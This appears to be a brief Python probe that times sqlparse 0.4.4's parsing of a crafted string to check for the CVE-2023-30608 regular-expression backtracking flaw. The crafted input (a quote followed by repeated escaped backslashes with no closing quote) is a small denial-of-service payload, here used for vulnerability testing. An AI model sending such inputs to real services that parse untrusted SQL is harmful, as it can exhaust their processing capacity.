# Timing probe for sqlparse 0.4.4 (CVE-2023-30608): the lexer's pattern for quoted
# strings backtracked exponentially on a quote followed by escaped backslashes and no
# closing quote.
import time

import sqlparse

text = "'" + "\\\\" * 17 + "a"
t = time.perf_counter()
sqlparse.parse(text)
dt = time.perf_counter() - t
print(f"{'SLOW (vulnerable)' if dt > 1 else 'fast (fixed)'}: {dt:.2f}s for 17 escaped backslashes")
